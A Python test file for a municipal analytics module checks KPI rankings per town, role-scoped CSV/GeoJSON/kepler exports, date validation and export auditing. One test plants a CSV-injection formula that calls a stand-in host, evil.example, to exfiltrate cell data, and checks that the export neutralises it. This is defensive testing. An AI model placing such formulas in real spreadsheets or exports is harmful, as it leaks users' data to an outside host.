"""/analytics/ (考核评价 E14/E15): KPIs per center, ranking, scoped CSV/GeoJSON/kepler exports."""

from __future__ import annotations

import csv
import io
import json

import pytest

from app.screens import analytics
from tests.app.authkit import accounts, app_ctx, login, web  # noqa: F401


def _actor(app_ctx, user):  # noqa: F811
    from app.users import UserStore

    return UserStore(app_ctx.redis).get(user).actor


def _point_in(app_ctx, town_code):  # noqa: F811
    cells = app_ctx.city.cells[app_ctx.city.cells["town_code"] == town_code]
    p = cells.iloc[len(cells) // 2].geometry.representative_point()
    return p.x, p.y


@pytest.fixture
def closed_loop(app_ctx, accounts):  # noqa: F811
    """Two towns' incidents: one closed with satisfaction in 潘州, one open in the other town."""
    svc = app_ctx.incidents
    pz, town = _actor(app_ctx, "panzhou"), _actor(app_ctx, "town")
    cg, sup = _actor(app_ctx, "chengguan"), _actor(app_ctx, "supervisor_pz")
    w1 = next(_actor(app_ctx, u) for u, a in accounts.items()
              if a["role"] == "grid_worker" and a["center"] == pz.center)
    a = svc.report(w1, "0101", *_point_in(app_ctx, pz.center[1:]), description="垃圾堆放")
    svc.accept(a.id, pz)
    svc.register(a.id, pz)
    svc.dispatch(a.id, pz, ["CG"])
    svc.start(a.id, cg)
    svc.handle(a.id, cg, note="已清理")
    svc.verify(a.id, sup, passed=True)
    svc.close(a.id, pz)
    svc.callback(a.id, pz, satisfaction=5)
    b = svc.report(town, "0106", *_point_in(app_ctx, town.center[1:]), description="违停")
    return a, b


def test_kpi_table_ranks_towns_and_departments(app_ctx, closed_loop):  # noqa: F811
    since, until = analytics.period(None, None)
    towns = analytics.kpi_table(app_ctx, "town", since, until)
    a, b = closed_loop
    assert len(towns) == sum(1 for c in app_ctx.city.centers.values() if c.tier == "town")
    top = towns.iloc[0]
    assert top["center"] == f"T{a.town_code}" and top["received"] == 1 and top["closed"] == 1
    assert top["closure_rate"] == 1.0 and top["satisfaction"] == 5 and top["score"] > 90
    other = towns.set_index("center").loc[f"T{b.town_code}"]
    assert other["received"] == 1 and other["closed"] == 0
    assert towns.set_index("center")["score"].isna().sum() == len(towns) - 2
    depts = analytics.kpi_table(app_ctx, "department", since, until)
    assert depts.iloc[0]["center"] == "DCG" and depts.iloc[0]["handled"] == 1
    for fig in (analytics.volume_figure(towns, "t"), analytics.ontime_figure(towns, "t"),
                analytics.score_figure(towns, "t")):
        assert fig.data


def test_exports_are_scoped(web, app_ctx, accounts, closed_loop):  # noqa: F811
    a, b = closed_loop
    c = web.test_client()
    login(c, "commander")
    rows = list(csv.DictReader(io.StringIO(c.get("/analytics/export.csv").get_data(as_text=True)
                                           .lstrip("\ufeff"))))
    assert {r["id"] for r in rows} == {a.id, b.id}
    assert {r["state"] for r in rows} == {"closed", "reported"}
    fc = json.loads(c.get("/analytics/export.geojson").get_data(as_text=True))
    assert fc["type"] == "FeatureCollection" and len(fc["features"]) == 2
    lon, lat = fc["features"][0]["geometry"]["coordinates"]
    assert app_ctx.city.try_locate(lon, lat) is not None
    kj = c.get("/analytics/kepler.json").json
    sets = {d["data"]["id"]: d["data"] for d in kj["datasets"]}
    assert len(sets["incidents 事件"]["allData"]) == 2 and "devices 设备" in sets
    layers = kj["config"]["config"]["visState"]["layers"]
    assert layers[0]["config"]["dataId"] == "incidents 事件"
    # a town supervisor exports its own territory only; an admin exports no incident
    c2 = web.test_client()
    login(c2, "supervisor_pz")
    fc2 = json.loads(c2.get("/analytics/export.geojson").get_data(as_text=True))
    assert [f["properties"]["id"] for f in fc2["features"]] == [a.id]
    c3 = web.test_client()
    login(c3, "admin")
    assert json.loads(c3.get("/analytics/export.geojson").get_data(as_text=True))["features"] == []
    # a town operator sees its own center's figures and cases (issue 21), a grid worker nothing
    c4 = web.test_client()
    login(c4, "panzhou")
    fc4 = json.loads(c4.get("/analytics/export.geojson").get_data(as_text=True))
    assert [f["properties"]["id"] for f in fc4["features"]] == [a.id]
    c5 = web.test_client()
    login(c5, next(u for u, x in accounts.items() if x["role"] == "grid_worker"))
    assert c5.get("/analytics/export.csv").status_code == 403


def test_period_outside_excludes(web, app_ctx, closed_loop):  # noqa: F811
    c = web.test_client()
    login(c, "commander")
    r = c.get("/analytics/export.geojson?start=2020-01-01&end=2020-01-31")
    assert json.loads(r.get_data(as_text=True))["features"] == []


def test_bad_or_reversed_period_is_a_clear_400(web, accounts):  # noqa: F811
    c = web.test_client()
    login(c, "commander")
    for url, why, zh in (
            ("/analytics/export.csv?start=foo", "start must be a date", "开始日期格式应为 YYYY-MM-DD"),
            ("/analytics/export.geojson?end=2024-13-45", "end must be a date", "结束日期格式应为"),
            ("/analytics/export.csv?start=2024-03-10&end=2024-03-01", "after end", "开始日期 2024-03-10 晚于"),
            ("/analytics/kepler.json?start=2024-03-10&end=2024-03-01", "after end", "开始日期")):
        r = c.get(url)
        assert r.status_code == 400, (url, r.status_code)
        assert r.json["error"] == "bad_request" and why in r.json["reason"], r.json
        assert r.json["reason"].startswith(zh), r.json             # Chinese first, English after
    assert c.get("/analytics/export.csv?start=foo").json["reason"] == \
        "开始日期格式应为 YYYY-MM-DD (start must be a date YYYY-MM-DD, got 'foo')"
    assert c.get("/analytics/export.csv?start=2024-03-01&end=2024-03-01").status_code == 200
    with pytest.raises(ValueError, match="after end"):
        analytics.period("2024-03-10", "2024-03-01")


def test_kepler_page_is_self_contained(web, closed_loop):  # noqa: F811
    c = web.test_client()
    login(c, "commander")
    r = c.get("/analytics/kepler")
    page = r.get_data(as_text=True)
    assert r.status_code == 200 and "default-src 'self'" in r.headers["Content-Security-Policy"]
    assert "https://" not in page and "http://" not in page
    assert c.get("/analytics/kepler-static/widget.js").status_code == 200
    style = c.get("/analytics/kepler-style.json").json
    assert style["version"] == 8 and all(
        s.get("type") == "geojson" for s in style["sources"].values())


def _refresh(web, user: str, tier: str = "town"):  # noqa: F811
    """Call the page's KPI callback the way its browser does (POST _dash-update-component)."""
    client = web.test_client()
    tok = login(client, user)
    deps = client.get("/analytics/_dash-dependencies").json
    spec = next(d["output"] for d in deps if "an-rank.data" in d["output"])
    outputs = []
    for part in spec.strip(".").split("..."):
        cid, prop = part.rsplit(".", 1)
        outputs.append({"id": cid, "property": prop})
    # the KPI day is a China Standard Time day (UTC+8): between 16:00 and 24:00 UTC it is
    # already tomorrow there
    today = analytics.dt.datetime.now(analytics.TZ).date().isoformat()
    body = {"output": spec, "outputs": outputs, "changedPropIds": ["an-tier.value"], "state": [],
            "inputs": [{"id": "an-period", "property": "start_date", "value": today},
                       {"id": "an-period", "property": "end_date", "value": today},
                       {"id": "an-tier", "property": "value", "value": tier}]}
    return client.post("/analytics/_dash-update-component", json=body, headers={"X-CSRFToken": tok})


def test_kpis_are_scoped_to_the_callers_center(web, app_ctx, closed_loop):  # noqa: F811
    """S2 分级控制: the city supervisor ranks every town; 潘州街道's supervisor sees only its own
    row, and the other town's open case does not show in its totals."""
    pz = _actor(app_ctx, "panzhou").center
    city = _refresh(web, "supervisor").json["response"]
    assert len(city["an-rank"]["data"]) == len(app_ctx.city.towns)
    own = _refresh(web, "supervisor_pz").json["response"]
    assert [row["name"] for row in own["an-rank"]["data"]] == [app_ctx.city.town_names[pz[1:]]]
    assert _received(city) == 2, "the city's totals count both towns' cases"
    assert _received(own) == 1, "潘州街道's totals count only its own case"


def _received(response: dict) -> int:
    """The 受理量 card's figure."""
    first = response["an-cards"]["children"][0]["props"]["children"][0]["props"]["children"]
    return int(str(first).replace(",", ""))


def test_a_machine_storm_nobody_accepted_does_not_rank_a_town_last(app_ctx, closed_loop):  # noqa: F811
    """考核 (issue 15): 30 machine cases in 潘州 that nobody accepted leave its fair score (the
    ranking) as it was; the score counting every case (score_raw) shows what the storm did."""
    from incidents.actor import SYSTEM  # noqa: PLC0415

    a, _b = closed_loop
    since, until = analytics.period(None, None)
    pz = f"T{a.town_code}"
    before = analytics.kpi_table(app_ctx, "town", since, until).set_index("center").loc[pz]
    x, y = _point_in(app_ctx, a.town_code)
    for i in range(30):
        app_ctx.incidents.report(SYSTEM, "0306", x + 1e-5 * i, y, channel="iot", correlate=False,
                                 description=f"水位超警 {i}")
    towns = analytics.kpi_table(app_ctx, "town", since, until)
    after = towns.set_index("center").loc[pz]
    assert after["received"] == 31 and after["received_human"] == 1
    assert after["received_machine"] == 30 and after["accepted_machine"] == 0
    assert after["score"] == before["score"] and after["rank"] == 1
    assert after["score_raw"] < before["score_raw"] - 20          # every case counted: a storm
    rows = analytics.rank_rows(towns)
    assert rows[0]["received_machine"] == 30 and rows[0]["assessed_closure_rate"] == "100%"
    cards = analytics.kpi_cards(app_ctx.incidents.kpis(pz, since, until))
    texts = [c.children[1].children + " " + c.children[0].children for c in cards]
    assert "人工上报 / 机器生成 1 / 30" in texts


def test_csv_export_escapes_formulas_is_not_cached_and_is_audited(web, app_ctx, closed_loop):  # noqa: F811
    """CSV injection (OWASP): a title a spreadsheet would run comes out as text; the export is
    never cached and the security audit names who exported what (SEC9, issue 19)."""
    from app import keys

    town = _actor(app_ctx, "town")
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
    bad = app_ctx.incidents.report(town, "0101", *_point_in(app_ctx, town.center[1:]),
                                   title=evil, description="垃圾")
    c = web.test_client()
    login(c, "commander")
    resp = c.get("/analytics/export.csv")
    assert resp.status_code == 200 and resp.headers["Cache-Control"] == "no-store"
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(resp.get_data(as_text=True)
                                                           .lstrip("\ufeff")))}
    assert rows[bad.id]["title"] == "'" + evil
    assert rows[closed_loop[0].id]["lon"][0].isdigit()     # numbers stay numbers
    for cell in (v for r in rows.values() for v in r.values()):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    last = app_ctx.redis.xrevrange(keys.SECURITY_AUDIT, count=1)[0][1]
    assert (last["event"], last["user"], last["path"]) == ("export", "commander",
                                                           "/analytics/export.csv")
    assert last["target"].startswith("csv ") and last["reason"] == "3 incidents"
    for path in ("/analytics/export.geojson", "/analytics/kepler.json"):
        assert c.get(path).headers["Cache-Control"] == "no-store"
        assert app_ctx.redis.xrevrange(keys.SECURITY_AUDIT, count=1)[0][1]["path"] == path


def test_ranking_export_and_drill_down_are_scoped(web, app_ctx, closed_loop):  # noqa: F811
    """排名导出 and 钻取 (issue 21): the city exports every town's row, a town its own; clicking
    a row lists that center's cases of the period (what the caller may read), with the stage
    times, deadline and handlers an on-time audit needs."""
    a, _b = closed_loop
    c = web.test_client()
    login(c, "commander")
    r = c.get("/analytics/ranking.csv?tier=town")
    assert r.status_code == 200 and "no-store" in r.headers["Cache-Control"]
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True).lstrip("\ufeff"))))
    assert len(rows) == len(app_ctx.city.towns) and "名次" in rows[0] and "中心" in rows[0]
    c2 = web.test_client()
    login(c2, "panzhou")
    own = list(csv.DictReader(io.StringIO(
        c2.get("/analytics/ranking.csv?tier=town").get_data(as_text=True).lstrip("\ufeff"))))
    pz = _actor(app_ctx, "panzhou").center
    assert [x["中心"] for x in own] == [analytics._short_name(app_ctx, app_ctx.city.centers[pz])]
    assert c2.get("/analytics/ranking.csv?tier=x").status_code == 400
    export = list(csv.DictReader(io.StringIO(
        c.get("/analytics/export.csv").get_data(as_text=True).lstrip("\ufeff"))))
    row = next(x for x in export if x["id"] == a.id)
    assert row["accepted"] and row["dispatched"] and row["handled"] and row["handlers"]
    # the drill-down, called as the browser does
    deps = c.get("/analytics/_dash-dependencies").json
    spec = next(d["output"] for d in deps if d["output"] == "an-drill.children")
    today = analytics.dt.datetime.now(analytics.TZ).date().isoformat()
    rank = [{"center": pz, "name": "潘州"}]
    body = {"output": spec, "outputs": {"id": "an-drill", "property": "children"},
            "changedPropIds": ["an-rank.active_cell"],
            "inputs": [{"id": "an-rank", "property": "active_cell", "value": {"row": 0, "column": 1}}],
            "state": [{"id": "an-rank", "property": "derived_viewport_data", "value": rank},
                      {"id": "an-period", "property": "start_date", "value": today},
                      {"id": "an-period", "property": "end_date", "value": today}]}
    tok = login(web.test_client(), "commander")  # noqa: F841 (a fresh session is not needed)
    out = c.post("/analytics/_dash-update-component", json=body,
                 headers={"X-CSRFToken": c.get_cookie("_csrf_token").value})
    assert out.status_code == 200, out.get_data(as_text=True)[:300]
    text = out.get_data(as_text=True)
    assert a.id in text and "本期事件 1 件" in text


def test_the_default_period_ends_today_per_request(web, app_ctx, accounts):  # noqa: F811
    """Not fixed when the server started: a server running past midnight defaults to today."""
    c = web.test_client()
    login(c, "supervisor")
    layout = c.get("/analytics/_dash-layout").json
    today = analytics.dt.datetime.now(analytics.TZ).date().isoformat()
    assert f'"end_date": "{today}"' in json.dumps(layout)
    assert '"href": "/console/"' in json.dumps(layout), "the supervisor's way to its console"
